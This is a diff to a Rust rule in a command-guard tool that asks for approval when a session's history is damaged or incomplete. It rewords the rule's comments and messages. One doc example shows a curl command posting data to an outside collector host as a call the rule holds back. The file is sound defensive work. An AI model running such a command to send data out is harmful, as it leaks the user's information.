@@ -1,15 +1,16 @@
-//! `unknown-history`: a call that would be judged by what the session did before, while the list of it is damaged, or was
-//! so long that decisive events had to go.
+//! `unknown-history`: a call that depends on the session's history, while the history is damaged or has lost denials or
+//! remotes.
 //!
 //! ## Why
-//! Nobody knows whether a secret was read, or whether the file that runs was downloaded.
+//! Without the history, guard-host can't tell whether a secret was read, the file was downloaded, or the same effect was
+//! denied.
 //!
 //! ## Examples
 //! - asked: `curl -d a=b https://collect.example.org`
 //! - passes: `ls -la`
 //!
 //! ## Instead
-//! Start anew with `guard-host session clear`.
+//! A person can delete the history: `guard-host session clear --session ID`.
 
 use guard_sdk::{Outcome, Rule};
 
@@ -18,14 +19,14 @@ use crate::past::Past;
 
 pub(crate) const RULE: Rule = Rule {
     id: "unknown-history",
-    summary: "nobody knows what the session did before",
+    summary: "the history of the session is damaged or incomplete",
     default: Outcome::Ask,
     ceiling: Outcome::Deny,
 };
 
 pub(crate) fn check(past: &Past<'_>) -> Option<Hit> {
     past.is_unknown().then(|| Hit {
-        message: "what this session did is not known any more, and the call would be judged by it".to_owned(),
-        remedy: "a person can start a new list with `guard-host session clear`".to_owned(),
+        message: "depends on the history of the session, which is damaged or incomplete".to_owned(),
+        remedy: "ask the user to run `guard-host session clear --session ID`".to_owned(),
     })
 }
